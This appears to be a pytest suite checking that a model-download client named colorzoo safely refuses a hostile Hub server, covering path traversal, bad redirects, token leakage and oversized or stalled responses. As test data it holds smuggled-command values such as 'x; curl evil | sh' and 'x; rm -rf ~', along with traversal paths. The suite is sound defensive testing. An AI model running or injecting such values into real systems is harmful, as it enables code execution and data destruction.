"""Pull against a Hub that lies: an error of our own in one bounded line, nothing outside the cache."""

import json
import time
from dataclasses import replace
from pathlib import Path

import pytest

from colorzoo.cli.app import _say
from colorzoo.cli.hub_commands import description
from colorzoo.core.errors import ColorzooError, HubError
from colorzoo.hub import catalog
from colorzoo.hub.pull import HubId, pull
from tests.servers import hostile_hub as hostile
from tests.servers.hostile_hub import (
    COMMIT,
    CONTROL,
    HTML,
    REPO,
    Answer,
    HostileHub,
    machine,
    random_changes,
)

pytestmark = pytest.mark.slow

NAME = HubId.parse(REPO)
HANG = 25
"""Seconds that no pull may take: the server gives up after thirty."""


@pytest.fixture(scope="module")
def files():
    folder = catalog.find("unet", "default")
    tensors = (folder / "model.safetensors").read_bytes()[:60_000]
    return {"config.json": (folder / "config.json").read_bytes(), "README.md": b"# card",
            "model.safetensors": tensors}  # fmt: skip


@pytest.fixture
def outside(tmp_path):
    """Return a function that checks that nothing but the caches has changed."""
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / "precious.txt").write_text("precious")

    def check():
        found = {
            str(p.relative_to(tmp_path))
            for p in tmp_path.rglob("*")
            if p.parts[len(tmp_path.parts)] not in ("hf", "colorzoo")
        }
        assert found == {"home", "home/precious.txt"}
        assert (tmp_path / "home" / "precious.txt").read_text() == "precious"
        for link in (tmp_path / "hf").rglob("*"):
            assert link.resolve().is_relative_to(tmp_path / "hf")

    yield check
    check()


def refused(tmp_path, files, changes, **patience):
    """Pull from a Hub with these changes; return the error's text, which must be one short line."""
    start = time.monotonic()
    with (
        HostileHub(files, changes) as hub,
        machine(tmp_path, hub.address, **patience),
        pytest.raises(ColorzooError) as error,
    ):
        pull(NAME)
    assert time.monotonic() - start < HANG
    text = str(error.value)
    assert len(text) < 1000
    assert text.isprintable()
    return text


def only(wanted, change):
    return lambda name, count, answer: change(answer) if name in wanted else answer


@pytest.mark.parametrize("etag", hostile.TRAVERSALS)
def test_an_etag_names_no_file_of_ours(tmp_path, files, outside, etag):
    headers = {"ETag": etag, "X_Linked_Etag": etag, "X_Repo_Commit": "../../home"}
    hub = HostileHub(files, only(files, lambda a: a.with_headers(**headers)))
    with hub, machine(tmp_path, hub.address):
        pulled = pull(NAME)
        for file, data in files.items():
            assert (pulled.folder / file).read_bytes() == data
        outside()
        card = pulled.folder / "README.md"
        card.unlink()
        card.symlink_to(tmp_path / "home" / "precious.txt")  # as the Hub's client would have left it
        with pytest.raises(HubError, match="arrived damaged"):
            pulled.verify()
        assert not card.is_symlink()


@pytest.mark.parametrize(
    "sha",
    [
        "../../../home/precious.txt",
        "ab",
        COMMIT + "0",
        COMMIT[1:],
        COMMIT.upper(),
        COMMIT + "\n",
        7,
        None,
        [],
        CONTROL,
    ],
)
def test_a_commit_is_forty_hexadecimal_digits(tmp_path, files, outside, sha):
    assert "sha" in refused(tmp_path, files, only(["revision"], lambda a: a.change(sha=sha)))


@pytest.mark.parametrize("change", [
    {"oid": "../../../home/precious.txt"}, {"oid": "0" * 39}, {"oid": None},
    {"lfs": {"oid": "../../../home/precious.txt", "size": 9}}, {"lfs": {"oid": "0" * 63, "size": 9}},
    {"lfs": []}, {"size": -1}, {"size": "many"}, {"path": {}}, {"path": CONTROL}, {"path": "\x1b" * 100_000 + ".bin"},  # noqa: E501
])  # fmt: skip
def test_digests_and_names_in_a_listing_are_checked(tmp_path, files, outside, change):
    refused(tmp_path, files, only(["tree"], lambda a: a.change(**change)))


@pytest.mark.parametrize("wanted", ["revision", "tree"])
@pytest.mark.parametrize("body", [
    HTML, b"", b"null", b"7", b"[" * 100_000, b'{"a":' * 9_000, b'{"sha": "\\ud800"}', b"\xff\xfe", b'["x"]', b" " * 9_000_000,  # noqa: E501
])  # fmt: skip
def test_what_is_no_answer_of_the_hub_is_one_line(tmp_path, files, wanted, body):
    refused(tmp_path, files, only([wanted], lambda a: replace(a, body=body)))


def test_bytes_that_differ_from_request_to_request(tmp_path, files, outside):
    data = files["model.safetensors"]

    def changes(name, count, answer):
        if name != "model.safetensors":
            return answer
        if count == 1:  # cut
            return replace(answer, body=b"evil" * 1000, length=len(data))
        return replace(answer, body=data[4000:], status=206) if count == 2 else answer

    with HostileHub(files, changes) as hub, machine(tmp_path, hub.address):
        with pytest.raises(HubError, match="arrived damaged"):
            pull(NAME)
        assert not list(tmp_path.rglob("*.incomplete"))
        assert (pull(NAME).folder / "model.safetensors").read_bytes() == data


def test_a_cut_download_goes_on_where_it_was(tmp_path, files):
    data = files["model.safetensors"]

    def changes(name, count, answer):
        if name != "model.safetensors":
            return answer
        if count == 1:
            return replace(answer, body=data[:5000], length=len(data))
        return replace(answer, body=data[5000:], status=206)

    with HostileHub(files, changes) as hub, machine(tmp_path, hub.address):
        assert (pull(NAME).folder / "model.safetensors").read_bytes() == data
        assert hub.asked["model.safetensors"] == 2


def test_the_token_goes_nowhere_else(tmp_path, files):
    with HostileHub(files) as other:

        def changes(name, count, answer):
            return (
                Answer(
                    status=302,
                    headers={
                        "Location": f"http://localhost:{other.address.rpartition(':')[2]}/a/resolve/b/{name}"
                    },
                )
                if name in files
                else answer
            )

        with HostileHub(files, changes) as hub, machine(tmp_path, hub.address):
            pull(NAME)
            assert set(hub.tokens) == {"Bearer hf_secret"}
            assert set(other.tokens) == {""}


@pytest.mark.parametrize(
    "location", ["/resolve/again", "file:///etc/passwd", "http://[", "gopher://x/", "//127.0.0.1:9/"]
)
def test_redirects_without_end_or_sense_are_refused(tmp_path, files, location):
    refused(tmp_path, files, lambda name, count, answer: Answer(status=302, headers={"Location": location}))


@pytest.mark.parametrize("wanted", ["revision", "tree", "config.json", "model.safetensors"])
def test_no_more_is_downloaded_than_was_promised(tmp_path, files, wanted):
    huge = Answer(b"x" * 1_000_000, repeat=1000)
    start = {}
    with HostileHub(files, only([wanted], lambda a: huge)) as hub, machine(tmp_path, hub.address):
        with pytest.raises(HubError, match="more than the"):
            pull(NAME)
        start = hub.sent
    assert start < 60_000_000
    assert sum(p.stat().st_size for p in tmp_path.rglob("*") if p.is_file()) < 1_000_000


CHUNKED = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1;"


@pytest.mark.parametrize("wanted", ["revision", "model.safetensors"])
@pytest.mark.parametrize(
    "slow",
    [
        lambda a: replace(a, pause=0.1),
        lambda a: replace(a, pause=60),
        lambda a: Answer(raw=b" ", pause=60),
        lambda a: Answer(raw=b"HTTP/1.1 200 OK\r\nX-Slow: " + b"a" * 9000, pause=0.1),
        lambda a: Answer(raw=CHUNKED + b"a" * 9000, pause=0.1),
    ],
    ids=["drip", "silent-body", "silent", "slow-headers", "slow-chunks"],
)
def test_a_hub_that_is_silent_or_drips_is_given_up(tmp_path, files, wanted, slow):
    assert "cannot be reached" in refused(tmp_path, files, only([wanted], slow), timeout=0.3)


def test_a_killed_pull_leaves_nothing_for_long(tmp_path, files):
    blobs = tmp_path / "hf" / "models--some--other" / "blobs"
    blobs.mkdir(parents=True)
    (blobs / ("a" * 64 + ".colorzoo.incomplete")).write_bytes(b"half")
    (blobs / ("b" * 64 + ".incomplete")).write_bytes(b"of another program")
    with HostileHub(files) as hub, machine(tmp_path, hub.address):
        from colorzoo.hub.hub_cache import Storage

        busy = blobs / ("c" * 64 + ".colorzoo.incomplete")
        busy.write_bytes(b"half")
        with Storage("some/other").lock("c" * 64):
            pull(NAME)
        assert {p.name[0] for p in blobs.iterdir()} == {"b", "c"}


def test_without_a_network_the_last_commit_serves(tmp_path, files):
    with HostileHub(files) as hub, machine(tmp_path, hub.address):
        pull(NAME)
        hub.changes = lambda name, count, answer: Answer(status=503)
        assert pull(NAME).commit == COMMIT
        assert pull(NAME, offline=True).commit == COMMIT
        with pytest.raises(HubError, match="never pulled"):
            pull(HubId(REPO, "other"), offline=True)


@pytest.mark.parametrize(
    "record",
    [b"", b"[" * 10_000, b"{}", b'{"config.json": 1}', b'{"../x": {"digest": "git:zz", "size": 1}}'],
)
def test_a_damaged_record_of_digests_is_one_line(tmp_path, files, record):
    with HostileHub(files) as hub, machine(tmp_path, hub.address):
        pull(NAME)
        path = next((tmp_path / "colorzoo" / "hub").rglob("*.json"))
        path.write_bytes(record)
        with pytest.raises(HubError, match="delete it and pull again") as error:
            pull(NAME)
        assert str(path) in str(error.value)


@pytest.mark.parametrize(("field", "value"), [
    ("distribution", "evil --index-url http://127.0.0.1/"), ("distribution", "x; curl evil | sh"),
    ("distribution", "x\n"), ("distribution", "../x"), ("distribution", "x" * 1000), ("plugin", "x; rm -rf ~"), ("plugin", ""), ("plugin", CONTROL),  # noqa: E501
])  # fmt: skip
def test_a_distribution_is_a_name_and_nothing_else(tmp_path, files, field, value):
    config = json.dumps(json.loads(files["config.json"]) | {field: value}).encode()
    with HostileHub(files | {"config.json": config}) as hub, machine(tmp_path, hub.address):
        with pytest.raises(ColorzooError, match=field) as error:
            pull(NAME).info  # noqa: B018
        assert str(error.value).isprintable()
        assert len(str(error.value)) < 1000


def test_texts_of_a_stranger_are_fit_for_a_terminal(tmp_path, files):
    known = json.loads(files["config.json"])
    texts = dict.fromkeys(("summary", "license", "credit", "sha256"), CONTROL + "x" * 50000)
    config = json.dumps(known | texts).encode()
    with HostileHub(files | {"config.json": config}) as hub, machine(tmp_path, hub.address):
        for line in description(pull(NAME).info):
            assert line.isprintable()
            assert len(line) <= 300


def test_every_message_is_bounded_and_free_of_control_characters(capsys):
    _say("error", f"first {CONTROL}\n\x1b[2Jsecond\nthird\nfourth" + "x" * 8_000_000)
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) == 3
    assert all(line.isprintable() for line in lines)
    assert not any(line.startswith("colorzoo: error") for line in lines[1:])
    _say("warning", "x" * 8_000_000)
    assert len(capsys.readouterr().err) < 1100


@pytest.mark.parametrize("seed", range(12))
def test_random_lies_end_in_an_error_of_our_own_or_in_verified_files(tmp_path, files, outside, seed):
    start, errors = time.monotonic(), []
    with HostileHub(files, random_changes(seed)) as hub, machine(tmp_path, hub.address, timeout=0.3):
        for _ in range(2):
            try:
                folder: Path = pull(NAME).folder
            except ColorzooError as error:
                errors.append(str(error))
                continue
            for file in folder.iterdir():
                assert file.read_bytes() == files[file.name]
    assert all(text.isprintable() and len(text) < 1000 for text in errors)
    assert time.monotonic() - start < 2 * HANG
